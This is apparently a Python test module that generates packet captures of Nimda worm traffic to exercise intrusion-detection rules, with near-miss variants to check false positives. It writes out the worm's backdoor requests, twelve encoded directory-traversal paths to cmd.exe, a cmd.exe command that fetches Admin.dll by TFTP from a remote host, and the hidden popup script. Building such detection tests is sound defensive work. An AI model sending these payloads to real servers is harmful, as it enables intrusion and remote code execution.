"""Nimda: its 16 requests, and how it goes on by TFTP, mail and web pages."""

from __future__ import annotations

from captures.http import NOT_FOUND, page, request, visit
from captures.tape import OTHER, VICTIM, WORM, Capture, Host, Tape, filler

CMD = b"winnt/system32/cmd.exe?/c+dir"
DOORS = (  # left open by Code Red II
    b"/scripts/root.exe?/c+dir",
    b"/MSADC/root.exe?/c+dir",
    b"/c/" + CMD,
    b"/d/" + CMD,
)
CLIMBS = (
    b"/scripts/..%255c../" + CMD,
    b"/_vti_bin/..%255c../..%255c../..%255c../" + CMD,
    b"/_mem_bin/..%255c../..%255c../..%255c../" + CMD,
    b"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../" + CMD,
    b"/scripts/..%c1%1c../" + CMD,
    b"/scripts/..%c0%2f../" + CMD,
    b"/scripts/..%c0%af../" + CMD,
    b"/scripts/..%c1%9c../" + CMD,
    b"/scripts/..%%35%63../" + CMD,
    b"/scripts/..%%35c../" + CMD,
    b"/scripts/..%25%35%63../" + CMD,
    b"/scripts/..%252f../" + CMD,
)
FETCH = b"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+tftp%20-i%2010.20.0.66%20GET%20Admin.dll%20d:\\Admin.dll"
SCRIPT = b'<script>window.open("readme.eml", null, "resizable=no,top=6000,left=6000")</script>'
PART = b'Content-Type: audio/x-wav;\r\n\tname="readme.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\n'


def ask(tape: Tape, path: bytes, client: Host = WORM, server: Host = VICTIM) -> None:
    visit(tape, client, server, request(path, b"Host: www"))


def doors(tape: Tape) -> None:
    for path in DOORS:
        ask(tape, path)


def climbs(tape: Tape) -> None:
    for path in CLIMBS:
        ask(tape, path)


def read_request(name: bytes) -> bytes:
    """Return a TFTP read request (RFC 1350, section 5)."""
    return b"\0\x01" + name + b"\0octet\0"


def mail(tape: Tape, part: bytes, cuts: tuple[int, ...] = ()) -> None:
    """Add an SMTP session, without the commands that every server answers alike."""
    session = tape.session(WORM, VICTIM, 25)
    session.reply(b"220 mail\r\n")
    session.send(b"DATA\r\n")
    session.reply(b"354 go on\r\n")
    session.send(b"Subject: hello\r\n\r\n--b\r\n" + part + filler(64) + b"\r\n.\r\n", cuts)
    session.close()


def spread(tape: Tape) -> None:
    ask(tape, FETCH)
    tape.udp(VICTIM, 1050, WORM, 69, read_request(b"Admin.dll"))
    ask(tape, b"/scripts/Admin.dll")
    visit(tape, OTHER, VICTIM, request(b"/"), page(b"<html>" + SCRIPT + b"</html>"))
    ask(tape, b"/readme.eml", OTHER, VICTIM)
    mail(tape, PART, cuts=(40, 66))


def near_miss(tape: Tape) -> None:
    all_paths = (*DOORS, *CLIMBS, FETCH)
    ask(tape, b"/scripts/root.exe")
    ask(tape, b"/msadc/root.exe?help")
    ask(tape, b"/c/winnt/system32/cmd.exe")
    ask(tape, b"/scripts/..%255c../winnt/system32/calc.exe?/c+dir")
    ask(tape, b"/help/..%20../" + CMD)
    log = b"".join(b'10.20.0.66 - - [18/Sep/2001] "GET ' + path + b' HTTP/1.0" 404\n' for path in all_paths)
    visit(tape, OTHER, VICTIM, request(b"/logs", method=b"POST", body=log))
    text = b"".join(b"GET " + path + b" HTTP/1.0\r\n" for path in all_paths)
    visit(tape, OTHER, VICTIM, request(b"/nimda.html"), page(text))
    tape.session(WORM, VICTIM, 80, is_midstream=True).send(request(DOORS[0]))
    tape.session(WORM, OTHER, 80).reply(NOT_FOUND + b"GET " + DOORS[1] + b" HTTP/1.0\r\n\r\n")


def spread_near_miss(tape: Tape) -> None:
    visit(tape, OTHER, VICTIM, request(b"/_vti_bin/_vti_adm/admin.dll", method=b"POST"))
    tape.udp(VICTIM, 1050, WORM, 69, b"\0\x02" + read_request(b"Admin.dll")[2:])
    tape.udp(VICTIM, 1050, WORM, 70, read_request(b"Admin.dll"))
    visit(tape, OTHER, VICTIM, request(b"/"), page(SCRIPT.replace(b"readme.eml", b"readme.html")))
    visit(tape, OTHER, VICTIM, request(b"/"), page(SCRIPT.replace(b"top=6000", b"top=60")))
    visit(tape, OTHER, VICTIM, request(b"/samples", method=b"POST", body=SCRIPT))
    text = b"GET /readme.eml HTTP/1.0\r\nGET /scripts/Admin.dll HTTP/1.0\r\n"
    visit(tape, OTHER, VICTIM, request(b"/nimda.html"), page(text))
    visit(tape, OTHER, VICTIM, request(b"/logs", method=b"POST", body=text.replace(b"\r", b'"')))
    ask(tape, b"/docs/readme.txt", OTHER, VICTIM)
    mail(tape, PART.replace(b"readme.exe", b"bell.wav"))
    mail(tape, PART.replace(b"audio/x-wav", b"application/octet-stream"))
    mail(tape, PART.replace(b"readme.exe", b"bell.wav") + filler(20) + PART[26:])


CAPTURES = (
    Capture(
        140,
        "nimda_doors.pcap",
        "Nimda's requests 1 to 4, for the doors that Code Red II left",
        "four TCP sessions of one request, answered with 404",
        {1000201: 1, 1000202: 1, 1000203: 1, 1000204: 1},
        doors,
    ),
    Capture(
        130,
        "nimda_climbs.pcap",
        "Nimda's requests 5 to 16, which climb out of a web folder in nine spellings; the eighth uses two of them",
        "twelve TCP sessions of one request, answered with 404",
        {1000205: 8, 1000206: 5},
        climbs,
    ),
    Capture(
        160,
        "nimda_spread.pcap",
        "how it goes on: the order to fetch Admin.dll, its TFTP request, the request that runs it, the script in a "
        "web page, the request for readme.eml, the mail (cut within the pattern)",
        "five TCP sessions and a UDP datagram; filler instead of the attachment",
        {1000206: 1} | dict.fromkeys(range(1000214, 1000220), 1),
        spread,
    ),
    Capture(
        150,
        "nimda_near_miss.pcap",
        "root.exe and cmd.exe without a command; another program; other escapes; all requests as an access log that is "
        "sent along, and as text in a web page; one without handshake, and one from the server",
        "as nimda_doors.pcap and nimda_climbs.pcap, one condition off each",
        {},
        near_miss,
    ),
    Capture(
        170,
        "nimda_spread_near_miss.pcap",
        "admin.dll of FrontPage; TFTP that writes, and on another port; other windows; the script and the requests as "
        "text on their way elsewhere; another readme; a real sound; readme.exe as an honest attachment, alone and "
        "behind a sound",
        "as nimda_spread.pcap, one condition off each",
        {},
        spread_near_miss,
    ),
)
